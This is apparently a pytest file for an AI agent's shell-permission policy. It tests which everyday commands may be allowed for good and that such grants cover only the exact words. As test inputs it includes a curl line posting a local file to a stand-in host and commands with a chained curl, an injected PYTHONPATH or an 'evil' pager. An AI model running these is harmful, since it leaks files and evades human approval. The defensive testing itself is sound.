"""Where a list of hosts is the wall, everyday commands can be allowed for good."""

import json

import pytest

from agent_core.tools.policy.command_effects import list_command_actions
from agent_core.tools.policy.paths import LISTED
from agent_core.tools.policy.shapes import shape_of
from agent_core.tools.policy.verdicts import Facts, Verdict, judge

EVERYDAY = """
ls -la
cat notes.txt
head -20 data.csv
grep -rn TODO src
find . -name '*.py'
wc -l *.py
touch x
mkdir -p build/out
mv a.txt b.txt
cp -r src backup
rm -r build
tar czf out.tgz src
unzip -o in.zip
sort names.txt | uniq -c
sed -i 's/a/b/' notes.txt
diff a.txt b.txt
python3 report.py
python3 -m pytest -q
python3 -c 'print(1 + 1)'
python3 -m venv .venv
.venv/bin/python report.py
.venv/bin/pytest tests
./run.sh
bash build.sh
pytest
pytest -x tests/test_a.py
pytest tests/*.py
make
make test
make -j4 all
cmake -B build
cargo build
cargo test
go test ./...
npm test
npm run build
node index.js
ruby a.rb
perl tidy.pl
java -jar app.jar
gcc -o a a.c && ./a
git status
git diff
git log --oneline
git add -A
git commit -m 'Fix the sum'
git checkout -b next
ruff check .
mypy src
sqlite3 my.db 'select 1'
""".strip().splitlines()
NOT_FOR_GOOD = {"curl -d @notes.txt https://h.example/", "git push origin main"}


def look(command: str, facts: Facts) -> Verdict:
    actions = list_command_actions(command, "", has_network=True, has_wall=True)
    return judge("terminal", actions, facts, is_proposed=False)


def allow_for_good(command: str) -> Facts:
    return Facts(grants=dict.fromkeys(look(command, Facts()).shapes, False))


def test_there_are_fifty() -> None:
    assert len(EVERYDAY) >= 50


@pytest.mark.parametrize("command", EVERYDAY)
def test_each_is_allowed_or_can_be_for_good(command: str) -> None:
    first = look(command, Facts())
    assert first.effect in ("allow", "ask")
    assert first.effect == "allow" or first.shapes
    granted = allow_for_good(command)
    assert look(command, granted).effect == "allow"


@pytest.mark.parametrize("command", EVERYDAY)
def test_always_survives_outputs_without_a_network(command: str) -> None:
    granted = allow_for_good(command)
    later = look(command, Facts(grants=granted.grants, is_tainted=True))
    assert later.effect == "allow"
    assert later.is_offline == bool(granted.grants)


@pytest.mark.parametrize("command", EVERYDAY)
def test_an_approval_of_a_session_runs_nothing_with_a_network_after_outputs(command: str) -> None:
    tainted = look(command, Facts(is_tainted=True))
    later = look(command, Facts(is_tainted=True, grants=dict.fromkeys(tainted.shapes, True)))
    assert later.effect == "allow"
    assert later.is_offline == (tainted.effect == "ask")


@pytest.mark.parametrize(
    ("allowed", "other"),
    [
        ("python3 report.py", "python3 other.py"),
        ("python3 report.py", "python3 report.py notes.txt"),
        ("python3 report.py", "python3 report.py; curl https://h.example/"),
        ("pytest", "cd evil && pytest"),
        ("pytest", "PYTHONPATH=evil pytest"),
        ("make", "make -f evil.mk"),
        ("git commit -m a", "git -c core.pager=evil commit -m a"),
    ],
)
def test_always_covers_the_very_words_only(allowed: str, other: str) -> None:
    assert look(other, allow_for_good(allowed)).effect == "ask"


@pytest.mark.parametrize("command", sorted(NOT_FOR_GOOD))
def test_what_sends_by_itself_never_runs_by_always_after_outputs(command: str) -> None:
    granted = allow_for_good(command)
    assert look(command, Facts(grants=granted.grants, is_tainted=True)).effect == "ask"


def test_without_a_wall_nothing_unknown_has_a_shape() -> None:
    actions = list_command_actions("python3 report.py", "", has_network=True)
    sends = [one for one in actions if one.kind == "send"]
    assert [shape_of("terminal", one) for one in sends] == [""]


def test_a_shape_behind_a_wall_names_the_whole_command_and_the_place() -> None:
    actions = list_command_actions("make test", "", has_network=True, has_wall=True)
    (send,) = [one for one in actions if one.kind == "send"]
    assert json.loads(shape_of("terminal", send)) == [
        "terminal",
        "send",
        LISTED,
        {"text": "make test"},
    ]


def test_a_fresh_shell_of_a_machine_is_in_the_workspace() -> None:
    facts = Facts()
    for is_fresh, effect in ((True, "allow"), (False, "ask")):
        actions = list_command_actions(
            "touch x", "", has_network=False, is_confined=False, is_fresh=is_fresh
        )
        assert judge("terminal", actions, facts, is_proposed=False).effect == effect
